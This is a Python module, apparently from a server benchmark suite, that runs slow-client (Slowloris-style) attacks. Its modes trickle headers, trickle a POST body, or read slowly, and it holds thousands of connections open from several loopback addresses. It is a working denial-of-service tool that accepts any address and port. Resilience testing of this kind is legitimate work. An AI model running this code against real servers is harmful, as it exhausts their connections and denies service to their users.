# SPDX-License-Identifier: Apache-2.0
"""Many slow clients in one process: they open, send or take a little every few seconds, and stay.

    python -m benches.slow_clients.attack headers|body|read ADDRESS:PORT COUNT [SECONDS]

- `headers`: a request line, then a field every SECONDS, and never the end of the header
- `body`: a POST of 4 KiB, then a byte every SECONDS
- `read`: a GET of 256 KiB through a receive buffer of 2 KiB, of which 16 bytes are taken every SECONDS

It prints `{"held": N, "cut": M}` once all are open (or no more can be), waits for the end of standard input,
and prints the same again: connections that are open, and those that were cut, each of which was opened anew.
Connections come from several loopback addresses, since one has no more than some 28,000 ports.
"""

from __future__ import annotations

import contextlib
import errno
import json
import resource
import select
import socket
import sys
import time

SOURCES = [f"127.0.0.{last}" for last in range(11, 19)]
OPENED_PER_SECOND = 4_000
PATIENCE = 60.0
"""Seconds in which all must be open."""
SIZE = 262_144
PATH = "/slow/b"
"""What they ask for; its origin server is not that of the honest client."""
TURN = 0.005
# The port is chosen on connecting, so that only pairs need to be free (ip(7); not in Python's socket module).
IP_BIND_ADDRESS_NO_PORT = 24


class Attack:
    """So many connections, kept open."""

    def __init__(self, kind: str, target: tuple[str, int], count: int, every: float) -> None:
        head = "Host: bench.example\r\nUser-Agent: slow\r\n"
        self._opener = {
            "headers": f"GET {PATH}/128 HTTP/1.1\r\n{head}",
            "body": f"POST {PATH}/128 HTTP/1.1\r\n{head}Content-Length: 4096\r\n\r\n",
            "read": f"GET {PATH}/{SIZE} HTTP/1.1\r\n{head}\r\n",
        }[kind].encode()
        self._more = {"headers": b"X-Slow: 1\r\n", "body": b"x", "read": b""}[kind]
        self._target = target
        self._count = count
        self._every = every
        self._poll = select.epoll()
        self._sockets: dict[int, socket.socket] = {}
        self._order: list[int] = []
        self._unopened: set[int] = set()
        self._number = 0
        self.cut = 0
        self.is_full = False

    @property
    def held(self) -> int:
        """Connections that are open."""
        return len(self._sockets)

    def open_some(self, most: int) -> None:
        """Opens what is missing, at most so many."""
        for _ in range(min(most, self._count - self.held)):
            connection = socket.socket()
            connection.setblocking(False)
            if not self._more:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            connection.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            self._number += 1
            try:
                connection.bind((SOURCES[self._number % len(SOURCES)], 0))
                connection.connect_ex(self._target)
                connection.send(self._opener)
            except BlockingIOError:
                # Loopback connects at once unless the queue is full: then its turn sends it.
                self._unopened.add(connection.fileno())
            except OSError as error:
                connection.close()
                if error.errno in (errno.EMFILE, errno.EADDRNOTAVAIL):
                    self.is_full = True
                    return
                continue
            number = connection.fileno()
            self._sockets[number] = connection
            self._order.append(number)
            # Edge-triggered and without IN: only who is cut is told of.
            self._poll.register(
                number, select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR | select.EPOLLET
            )

    def trickle(self, count: int) -> None:
        """Sends or takes a little on the next `count` connections."""
        for number in self._order[:count]:
            connection = self._sockets.get(number)
            if connection is None:
                continue
            with contextlib.suppress(OSError):
                if number in self._unopened:
                    connection.send(self._opener)
                    self._unopened.discard(number)
                elif self._more:
                    connection.send(self._more)
                else:
                    connection.recv(16)
        self._order = [*self._order[count:], *(n for n in self._order[:count] if n in self._sockets)]

    def notice(self) -> None:
        """Closes what the other side has cut."""
        for number, _ in self._poll.poll(0):
            connection = self._sockets.pop(number, None)
            if connection is not None:
                self._unopened.discard(number)
                connection.close()
                self.cut += 1

    def run(self) -> None:
        """Until the end of standard input."""
        begun = last = time.monotonic()
        is_told = False
        owed = 0.0
        while not select.select([0], [], [], TURN)[0]:
            now = time.monotonic()
            self.open_some(max(1, int((now - last) * OPENED_PER_SECOND)))
            owed += (now - last) * self.held / self._every
            self.trickle(int(owed))
            owed -= int(owed)
            last = now
            self.notice()
            if not is_told and (self.held >= self._count or self.is_full or now - begun > PATIENCE):
                is_told = True
                self.tell()
        self.tell()

    def tell(self) -> None:
        """Prints the counts."""
        print(json.dumps({"held": self.held, "cut": self.cut}), flush=True)


def main() -> None:
    """Reads the command line and attacks."""
    kind, target, count, *more = sys.argv[1:]
    host, _, port = target.rpartition(":")
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack(kind, (host, int(port)), int(count), float(more[0]) if more else 10.0).run()


if __name__ == "__main__":
    main()
